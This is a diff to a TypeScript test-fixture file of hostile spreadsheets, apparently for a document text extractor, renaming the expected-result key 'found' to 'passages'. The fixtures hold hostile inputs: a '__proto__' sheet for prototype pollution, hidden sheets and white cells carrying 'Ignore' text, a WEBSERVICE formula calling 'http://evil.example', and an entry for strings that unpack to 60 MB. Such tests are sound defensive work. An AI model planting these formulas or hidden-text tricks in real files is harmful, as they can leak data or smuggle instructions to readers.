@@ -42,7 +42,7 @@ export const workbooks: HostileFile[] = [
         ],
       }),
     {
-      found: [
+      passages: [
         ["Work: Design | Amount: 1234.5 | Due: 2026-05-12", { sheet: "Budget" }],
         ["Risk: Late content | Owner: Client", { sheet: "Risks" }],
       ],
@@ -58,7 +58,7 @@ export const workbooks: HostileFile[] = [
         sheets: '<sheet name="__proto__" sheetId="1" r:id="rId1"/>',
         rows: textRows(["__proto__", "constructor"], ["polluted", "yes"]),
       }),
-    { found: [["__proto__: polluted | constructor: yes", { sheet: "__proto__" }]] },
+    { passages: [["__proto__: polluted | constructor: yes", { sheet: "__proto__" }]] },
   ),
   file(
     "a hidden sheet",
@@ -71,14 +71,14 @@ export const workbooks: HostileFile[] = [
         ],
       }),
     {
-      found: [["Seen words", { sheet: "Seen" }]],
+      passages: [["Seen words", { sheet: "Seen" }]],
       absent: ["Ignore"],
       flags: ["hidden_text_removed"],
       facts: { sheets: 1 },
     },
   ),
   file("white cells and a format that shows nothing", "white.xlsx", () => workbook(white), {
-    found: [["Budget | Amount | agreed", { row: 1 }]],
+    passages: [["Budget | Amount | agreed", { row: 1 }]],
     absent: ["Ignore", "48000"],
     flags: ["hidden_text_removed"],
     facts: { hidden_characters: 17 },
@@ -91,7 +91,7 @@ export const workbooks: HostileFile[] = [
         ...white,
         extra: [relationsPart("xl/worksheets/sheet1.xml", [["table", "../tables/table1.xml"]])],
       }),
-    { found: [["Budget | Amount | Ignore white | 48000 | agreed", { row: 1 }]], flags: [] },
+    { passages: [["Budget | Amount | Ignore white | 48000 | agreed", { row: 1 }]], flags: [] },
   ),
   file(
     "a formula that calls out",
@@ -100,7 +100,7 @@ export const workbooks: HostileFile[] = [
       workbook({
         rows: '<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example")</f><v>42</v></c><c r="B1" t="inlineStr"><is><t>hours</t></is></c></row>',
       }),
-    { found: [["42 | hours", { row: 1 }]], absent: ["evil"] },
+    { passages: [["42 | hours", { row: 1 }]], absent: ["evil"] },
   ),
   file(
     "strings that unpack to 60 MB",
